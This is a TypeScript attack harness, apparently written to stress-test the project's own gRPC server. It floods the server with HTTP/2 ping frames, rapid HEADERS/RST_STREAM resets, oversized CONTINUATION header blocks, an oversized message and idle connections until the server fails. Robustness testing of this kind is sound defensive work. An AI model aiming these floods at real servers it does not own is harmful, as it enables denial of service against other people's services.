/**
 * Attacks a server until it is killed: `attacker.ts ATTACK HOST:PORT IDLE`. A process of its own, so
 * that what it costs itself is not taken for what it costs the server. Prints a line for each
 * connection that was cut, and for the attack "idle" one when there are IDLE connections.
 */
import { message } from "./odd_call.ts";
import { END_HEADERS, END_STREAM, frame, frames, headersOf, RawPeer } from "./raw_peer.ts";

const list = "/tinct.v1.TrainingJobService/ListTrainingJobs";

/** A connection after the other, each used until it is cut, with a pause between them. */
async function again(address: string, use: (peer: RawPeer) => Promise<void>): Promise<never> {
  while (true) {
    using peer = await RawPeer.greet(address);
    await use(peer);
    console.log("cut");
    // Many times as often as the server lets an address come back by default, but for the first 500.
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

const attacks: Readonly<Record<string, (address: string) => Promise<unknown>>> = {
  pings: (address) => {
    const many = Buffer.alloc(17 * 100, frame(frames.ping, 0, 0, Buffer.alloc(8)));
    return again(address, async (peer) => void await peer.flood(many, 10_000));
  },
  resets: (address) =>
    again(address, async (peer) => {
      const headers = headersOf(list);
      for (let index = 0; index < 1000 && peer.isOpen; index++) {
        const stream = 2 * index + 1;
        await peer.flood(
          Buffer.concat([
            frame(frames.headers, END_HEADERS, stream, headers),
            frame(frames.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
          ]),
          1,
        );
      }
      await peer.closed;
    }),
  metadata: (address) =>
    again(address, async (peer) => {
      const block = headersOf(list, { "x-long": "m".repeat(70_000) });
      peer.write(frame(frames.headers, 0, 1, block.subarray(0, 16_000)));
      await peer.flood(frame(frames.continuation, 0, 1, block.subarray(16_000, 30_000)), 4);
      await peer.closed;
    }),
  oversized: (address) =>
    again(address, async (peer) => {
      peer.write(
        frame(frames.headers, END_HEADERS, 1, headersOf(list)),
        frame(frames.data, END_STREAM, 1, message(Buffer.alloc(1000), { length: 2 ** 31 })),
      );
      await new Promise((resolve) => setTimeout(resolve, 10));
    }),
  idle: async (address) => {
    const peers: RawPeer[] = [];
    while (peers.length < Number(idle)) peers.push(await RawPeer.greet(address));
    console.log("idle");
    await new Promise(() => {});
  },
};

const [name = "", address = "", idle = "0"] = Deno.args;
const attack = attacks[name];
if (!attack) throw new TypeError(`There is no attack ${name}: ${Object.keys(attacks).join(", ")}.`);
await attack(address);
